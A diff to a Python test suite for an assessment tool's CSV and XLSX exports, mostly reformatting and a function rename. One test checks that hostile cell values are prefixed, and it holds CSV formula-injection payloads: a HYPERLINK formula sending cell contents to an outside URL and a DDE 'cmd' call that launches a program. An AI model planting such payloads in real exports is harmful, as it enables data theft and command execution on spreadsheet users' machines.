@@ -84,9 +84,14 @@ def world(sessions, catalogue):
                     opened_period="2026-Q4",
                 ),
                 KpiValue(
-                    organization_id=named.id, period="2026-Q4", kpi="nps", inputs="{}",
-                    value="85/2", value_number=42.5, sample_size=40,
-                ),  # fmt: skip
+                    organization_id=named.id,
+                    period="2026-Q4",
+                    kpi="nps",
+                    inputs="{}",
+                    value="85/2",
+                    value_number=42.5,
+                    sample_size=40,
+                ),
             ]
         )
         consultant = make_member(session, workspace, role="consultant")
@@ -152,7 +157,7 @@ def test_the_workspace_xlsx_has_every_table_and_scores_as_numbers(sessions, cata
 def test_hostile_text_is_prefixed_in_csv_and_xlsx(sessions, catalogue, world):
     slug, consultant = world["slug"], world["consultant"]
     rows = csv_rows(sessions, catalogue, consultant, slug, "assessments")
-    assert "'=HYPERLINK(\"http://x?\"&A1)" in {r["client"] for r in rows}
+    assert '\'=HYPERLINK("http://x?"&A1)' in {r["client"] for r in rows}
     action = csv_rows(sessions, catalogue, consultant, slug, "actions")[0]
     assert (action["title"], action["owner"]) == ("'@SUM(1+1)", "'+cmd|' /C calc'!A0")
     book = workbook(sessions, catalogue, consultant, slug)
@@ -162,7 +167,9 @@ def test_hostile_text_is_prefixed_in_csv_and_xlsx(sessions, catalogue, world):
 
 
 def test_named_answers_carry_names_groups_and_comments(sessions, catalogue, world):
-    rows = csv_rows(sessions, catalogue, world["consultant"], world["slug"], "answers", world["named"])
+    rows = csv_rows(
+        sessions, catalogue, world["consultant"], world["slug"], "answers", world["named"]
+    )
     assert len(rows) == 3 * len(QUESTIONNAIRE.questions)
     first = [r for r in rows if r["question"] == FIRST]
     assert [r["respondent"] for r in first] == [f"Person {n} of Named AG" for n in (1, 2, 3)]
@@ -181,9 +188,7 @@ def test_confidential_answers_carry_aliases_and_no_name_or_comment(sessions, cat
     assert "Person" not in str(rows)
 
 
-def test_anonymous_answers_name_nobody_and_cannot_be_joined_to_a_person(
-    sessions, catalogue, world
-):
+def test_anonymous_answers_name_nobody_and_cannot_be_joined_to_a_person(sessions, catalogue, world):
     rows = csv_rows(
         sessions, catalogue, world["consultant"], world["slug"], "answers", world["anonymous"]
     )
@@ -199,7 +204,7 @@ def test_anonymous_answers_name_nobody_and_cannot_be_joined_to_a_person(
 def test_anonymous_answers_of_a_question_fewer_than_three_chose_are_left_out(sessions, catalogue):
     with transaction(sessions) as session:
         workspace = make_workspace(session)
-        organization, _ = add_client(session, workspace, catalogue, "Zwei", "anonymous", (2, 4))
+        add_client(session, workspace, catalogue, "Zwei", "anonymous", (2, 4))
     rows = csv_rows(sessions, catalogue, exports.OPERATOR, workspace.slug, "answers")
     assert rows == []
     participation = csv_rows(sessions, catalogue, exports.OPERATOR, workspace.slug, "participation")
@@ -268,7 +273,7 @@ def test_the_operator_is_told_of_an_unknown_workspace_or_table(sessions, catalog
 
 def test_the_csv_zip_has_one_file_per_table(sessions, catalogue, world):
     out = io.BytesIO()
-    exports.write_client_csv_zip(sessions, catalogue, world["consultant"], world["slug"], out)
+    exports.write_csv_zip(sessions, catalogue, world["consultant"], world["slug"], out)
     with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
         assert archive.namelist() == [f"{name}.csv" for name in exports.TABLE_NAMES]
         assert archive.read("targets.csv").startswith(b"\xef\xbb\xbftarget_id,")
